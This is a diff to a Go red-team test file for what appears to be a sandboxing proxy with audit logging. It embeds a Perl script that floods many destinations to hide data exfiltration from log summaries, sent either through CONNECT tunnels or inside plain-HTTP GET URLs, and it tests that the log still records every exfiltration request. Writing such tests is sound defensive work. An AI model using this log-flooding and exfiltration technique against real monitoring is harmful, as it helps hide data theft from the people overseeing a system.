@@ -15,9 +15,10 @@ import (
 // they are done, sends a request through a CONNECT tunnel to the allowed server at
 // 127.0.0.2:ARGV[2] every 1.1 s (the exfiltration the flood would hide: at most one a
 // summary, so that in most it comes after 1024 destinations told apart). It prints how
-// many tunnels it made and the bytes it sent up through them.
+// many tunnels it made and the bytes it sent up through them. With ARGV[3] "get" it
+// sends the request as a plain-HTTP GET through the proxy instead, the data in its URL.
 const distinctFloodExfil = `use IO::Socket::INET; use POSIX ":sys_wait_h";
-my ($procs, $n, $port) = @ARGV;
+my ($procs, $n, $port, $mode) = @ARGV;
 my %kids;
 for my $p (1..$procs) {
   my $pid = fork() // die "fork: $!";
@@ -35,12 +36,17 @@ for my $p (1..$procs) {
 my ($tunnels, $up) = (0, 0);
 while (%kids) {
   my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
-  print $s "CONNECT 127.0.0.2:$port HTTP/1.1\r\nHost: 127.0.0.2:$port\r\n\r\n";
-  my $status = <$s> // die "no answer";
-  $status =~ m{^HTTP/1\.[01] 200 } or die "tunnel refused: $status";
-  while (my $h = <$s>) { last if $h eq "\r\n"; }
-  my $req = "GET /hello?secret=" . ("s" x 1000) . " HTTP/1.0\r\nHost: 127.0.0.2:$port\r\n\r\n";
-  print $s $req; $up += length $req;
+  if ($mode eq "get") {
+    print $s "GET http://127.0.0.2:$port/hello?secret=" . ("s" x 1000) . " HTTP/1.0\r\nHost: 127.0.0.2:$port\r\n\r\n";
+    my $status = <$s> // die "no answer"; $status =~ m{^HTTP/1\.[01] 200 } or die "refused: $status";
+  } else {
+    print $s "CONNECT 127.0.0.2:$port HTTP/1.1\r\nHost: 127.0.0.2:$port\r\n\r\n";
+    my $status = <$s> // die "no answer";
+    $status =~ m{^HTTP/1\.[01] 200 } or die "tunnel refused: $status";
+    while (my $h = <$s>) { last if $h eq "\r\n"; }
+    my $req = "GET /hello?secret=" . ("s" x 1000) . " HTTP/1.0\r\nHost: 127.0.0.2:$port\r\n\r\n";
+    print $s $req; $up += length $req;
+  }
   1 while <$s>; close $s; $tunnels++;
   while ((my $k = waitpid(-1, WNOHANG)) > 0) { delete $kids{$k}; }
   select(undef, undef, undef, 1.1);
@@ -60,7 +66,7 @@ func TestRedAllowExfilPastDistinct(t *testing.T) {
 	up := newUpstream(t, false, "127.0.0.2:0")
 	w.egressContract("9", up.port)
 	mustWrite(t, filepath.Join(w.ws, "flood.pl"), distinctFloodExfil)
-	r := w.sh("perl flood.pl 4 8000 " + up.port)
+	r := w.sh("perl flood.pl 4 8000 " + up.port + " tunnel")
 	got := regexp.MustCompile(`tunnels (\d+) up (\d+)`).FindStringSubmatch(r.stdout)
 	if r.code != 0 || got == nil {
 		t.Fatalf("flood: %v", r)
@@ -194,5 +200,50 @@ func TestRedAllowHeldTunnel(t *testing.T) {
 	}
 	if v := w.cordon("", "audit", "verify", id); v.code != 0 {
 		t.Errorf("audit verify: %v", v)
+	}
+}
+
+// TestRedAllowGetPastNamed (red team, redallow): the same flood, the data sent instead
+// in the URL of a plain-HTTP GET about once a summary, which bytes_up (a body's) does
+// not count. Every GET is in the log under its destination, itemized or named in a
+// summary (before b65a304, past the 64 destinations named it was summed into other).
+func TestRedAllowGetPastNamed(t *testing.T) {
+	w := newWorld(t)
+	up := newUpstream(t, false, "127.0.0.2:0")
+	w.egressContract("9", up.port)
+	mustWrite(t, filepath.Join(w.ws, "flood.pl"), distinctFloodExfil)
+	r := w.sh("perl flood.pl 4 8000 " + up.port + " get")
+	got := regexp.MustCompile(`tunnels (\d+) up`).FindStringSubmatch(r.stdout)
+	if r.code != 0 || got == nil {
+		t.Fatalf("flood: %v", r)
+	}
+	gets, _ := strconv.ParseInt(got[1], 10, 64)
+	exfil := "127.0.0.2:" + up.port
+	var logged int64
+	summaries := 0
+	for _, rec := range lastRun(t, w) {
+		switch rec.Type {
+		case event.NetAllow:
+			var b event.NetBody
+			if err := rec.DecodeBody(&b); err != nil {
+				t.Fatal(err)
+			}
+			if netTargetOf(b) == exfil {
+				logged++
+			}
+		case event.NetAllowSummary:
+			var b event.NetAllowSummaryBody
+			if err := rec.DecodeBody(&b); err != nil {
+				t.Fatal(err)
+			}
+			summaries++
+			logged += b.Named[exfil].Attempts
+		}
+	}
+	if summaries == 0 {
+		t.Fatalf("the flood did not get past the budget (%s)", r.stdout)
+	}
+	if logged != gets {
+		t.Errorf("the workload sent %d GETs to %s; the log has %d there, itemized or named", gets, exfil, logged)
 	}
 }
